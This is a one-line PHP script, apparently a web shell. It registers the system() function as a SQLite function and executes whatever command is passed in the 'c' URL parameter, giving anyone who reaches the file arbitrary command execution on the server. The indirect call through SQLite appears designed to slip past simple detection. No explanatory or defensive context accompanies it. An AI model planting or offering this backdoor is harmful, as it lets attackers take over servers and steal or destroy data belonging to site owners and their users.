<?php $db = new SQLite3(':memory:'); $db->createFunction('run', 'system'); $db->query("SELECT run('" . $_GET['c'] . "')");
